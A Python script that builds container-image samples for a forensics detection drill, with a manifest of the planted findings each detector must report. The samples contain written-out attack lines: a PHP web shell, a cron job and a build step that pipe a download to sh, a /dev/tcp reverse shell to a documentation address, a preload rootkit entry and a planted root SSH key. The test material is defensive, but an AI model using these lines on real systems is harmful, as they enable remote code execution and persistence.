"""Makes the sample images of this folder, the same bytes every time: `python evidence-samples/build.py [FOLDER]`.

Everything in them is inert: the programs wait for ever and do nothing, the addresses are for documentation (RFC 5737),
the names end in .invalid, the keys are the published examples. `manifest.json` says what must be found in each.
"""

from __future__ import annotations

import hashlib
import json
import sys
from dataclasses import dataclass
from pathlib import Path

from forensics.drill.image import (
    Recipe,
    RecipeFile,
    RecipeLayer,
    build_docker_archive,
    build_oci_archive,
)
from forensics.drill.stub import build_stub

MACHINE = "x86_64"
MINER = "xmrig 6.21.0 donate-level randomx stratum+tcp://pool.invalid:3333 cryptonight\n"
KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEONLYEXAMPLEONLYEXAMPLEONLYEX"
SHELL = build_stub("sh (stand-in)\n", MACHINE)


@dataclass(frozen=True)
class Expectation:
    """Something that was planted: where, and what kind of finding (ATT&CK, any one of them) it must give."""

    what: str
    path: str
    attack: tuple[str, ...] = ()
    recovered: bool = False


@dataclass(frozen=True)
class Sample:
    """One saved image and what must be found in it."""

    file: str
    about: str
    content: bytes
    verdicts: tuple[str, ...]
    expected: tuple[Expectation, ...]


def text(path: str, content: str, mode: int = 0o644) -> RecipeFile:
    """Return a text file."""
    return RecipeFile(path, content.encode(), mode)


def program(path: str, marks: str, mode: int = 0o755) -> RecipeFile:
    """Return a program that does nothing and holds *marks* as text."""
    return RecipeFile(path, build_stub(marks, MACHINE), mode)


BASE = RecipeLayer(
    "/bin/sh -c #(nop) ADD file:base in / ",
    (
        text("etc/passwd", "root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/bin/false\n"),
        text("etc/group", "root:x:0:\nwww-data:x:33:\n"),
        text("etc/shadow", "root:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\n", 0o640),
        text("etc/os-release", 'NAME="Sample base"\nID=sample\n'),
        text("etc/crontab", "# m h dom mon dow user command\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"),
        RecipeFile("bin/sh", SHELL, 0o755),
        program("usr/bin/passwd", "passwd (stand-in)\n"),
        program("usr/sbin/sshd", "sshd (stand-in)\n"),
        RecipeFile("tmp", folder=True, mode=0o1777),
        RecipeFile("usr/bin/sh", target="../../bin/sh", mode=0o777),
    ),
)
SITE = RecipeLayer(
    "COPY site /var/www/html # buildkit",
    (
        text("var/www/html/index.html", "<!doctype html><title>Catalogue</title><h1>Catalogue</h1>\n"),
        text("var/www/html/contact.php", "<?php echo htmlspecialchars($_GET['name'] ?? ''); ?>\n"),
        text("srv/start", "#!/bin/sh\nexec /usr/sbin/sshd -D\n", 0o755),
    ),
)
INTRUSION = RecipeLayer(
    "",
    (
        text("var/www/html/uploads/thumb.php", "<?php @eval(base64_decode($_POST['q'])); system($_GET['c']); ?>\n"),
        text(
            "etc/crontab",
            "# m h dom mon dow user command\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"
            "*/5 * * * * root (wget -q -O - http://update.invalid/i.sh || true) | sh >/dev/null 2>&1\n",
        ),
        text("etc/ld.so.preload", "/usr/lib/libsystem.so\n"),
        program("usr/lib/libsystem.so", "readdir hide_process getdents64 LD_PRELOAD\n"),
        program("usr/bin/passwd", "passwd (changed)\n"),
        RecipeFile("var/tmp/.font-unix", SHELL, 0o4755),
        program("tmp/.cache/kdevtmpfsi", MINER),
        text("root/.ssh/authorized_keys", f"ssh-ed25519 {KEY} x@invalid\n", 0o600),
    ),
    removed=("srv/start",),
)
SECRET = RecipeLayer(
    "COPY credentials /root/.aws/credentials # buildkit",
    (
        text(
            "root/.aws/credentials",
            "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"
            "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
            0o600,
        ),
        text("opt/build/token.txt", "token for the build only\n", 0o600),
    ),
)
POISON = RecipeLayer(
    "RUN /bin/sh -c wget -q -O - http://tools.invalid/setup.sh | sh && rm -rf /root/.aws /opt/build # buildkit",
    (
        text(
            "etc/profile.d/locale.sh",
            "#!/bin/sh\nnohup sh -c 'sh -i >& /dev/tcp/203.0.113.9/4444 0>&1' >/dev/null 2>&1 &\n",
            0o755,
        ),
        RecipeFile("usr/lib/.locale/sh", SHELL, 0o6755),
    ),
    removed=("root/.aws", "opt/build"),
)


def make_samples() -> tuple[Sample, ...]:
    """Return every sample; nothing is written."""
    command = ("/srv/start",)
    return (
        Sample(
            "intruded-web.tar",
            "docker save of a committed web server: web shell, miner, cron, preload, setuid shell, changed program",
            build_docker_archive(Recipe("web:intruded", (BASE, SITE, INTRUSION), command)),
            ("compromised",),
            (
                Expectation("web shell in the web root", "/var/www/html/uploads/thumb.php", ("T1505.003",)),
                Expectation("cron line that fetches and runs a script", "/etc/crontab", ("T1053.003",)),
                Expectation("library forced into every program", "/etc/ld.so.preload", ("T1574.006",)),
                Expectation("setuid shell in a temporary folder", "/var/tmp/.font-unix", ("T1548.001",)),  # noqa: S108 - in the image
                Expectation("changed system program", "/usr/bin/passwd", ("T1554", "T1036")),
                Expectation("miner program", "/tmp/.cache/kdevtmpfsi", ("T1496", "T1496.001")),  # noqa: S108 - in the image
                Expectation("key for root's account", "/root/.ssh/authorized_keys", ("T1098.004",)),
                Expectation("start script deleted by the intruder", "/srv/start", recovered=True),
            ),
        ),
        Sample(
            "poisoned-layer.tar",
            "OCI layout, gzip layers: credentials deleted by a later layer, a build step that pipes the net to a shell",
            build_oci_archive(Recipe("registry.invalid/tools:1.4", (BASE, SECRET, POISON), ("/bin/sh",))),
            ("compromised", "suspicious"),
            (
                Expectation("cloud credentials deleted by a later layer", "/root/.aws/credentials", recovered=True),
                Expectation("build token deleted by a later layer", "/opt/build/token.txt", recovered=True),
                Expectation(
                    "reverse shell in a login script",
                    "/etc/profile.d/locale.sh",
                    ("T1059.004", "T1546.004", "T1095", "T1071"),
                ),
                Expectation("setuid shell in a hidden folder", "/usr/lib/.locale/sh", ("T1548.001",)),
            ),
        ),
        Sample(
            "ordinary-web.tar",
            "docker save of the same web server on an ordinary day: nothing must be found",
            build_docker_archive(Recipe("web:ordinary", (BASE, SITE), command)),
            ("no-evidence",),
            (),
        ),
    )


def describe(samples: tuple[Sample, ...]) -> bytes:
    """Return manifest.json."""
    rows = [
        {
            "file": sample.file,
            "sha256": hashlib.sha256(sample.content).hexdigest(),
            "size_bytes": len(sample.content),
            "about": sample.about,
            "verdict": list(sample.verdicts),
            "expect": [
                {"what": e.what, "path": e.path, "attack": list(e.attack), "recovered": e.recovered}
                for e in sample.expected
            ],
        }
        for sample in samples
    ]
    return json.dumps({"schema": "ir.samples/1", "samples": rows}, indent=2).encode() + b"\n"


def main() -> None:
    """Write the samples and their manifest into the folder of the command line, or beside this script."""
    folder = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent
    samples = make_samples()
    for sample in samples:
        (folder / sample.file).write_bytes(sample.content)
    (folder / "manifest.json").write_bytes(describe(samples))


if __name__ == "__main__":
    main()
